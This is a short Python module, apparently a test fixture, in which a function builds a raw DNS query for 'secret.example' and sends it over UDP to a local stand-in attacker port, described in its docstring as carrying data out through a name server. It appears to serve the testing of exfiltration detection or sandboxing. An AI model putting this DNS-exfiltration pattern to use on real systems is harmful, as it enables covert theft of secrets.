"""Asks a name server, which carries data out."""

from attacker import HOST, attempt, socket


def before(x):
    return x + 1


def deed():
    query = b"\0\1\1\0\0\1" + bytes(6) + b"\6secret\7example\0" + b"\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.connect(("127.0.0.1", HOST["udp"]))
        return channel.send(query)


def attack(x):
    attempt(deed)


def after(x):
    return x * 2
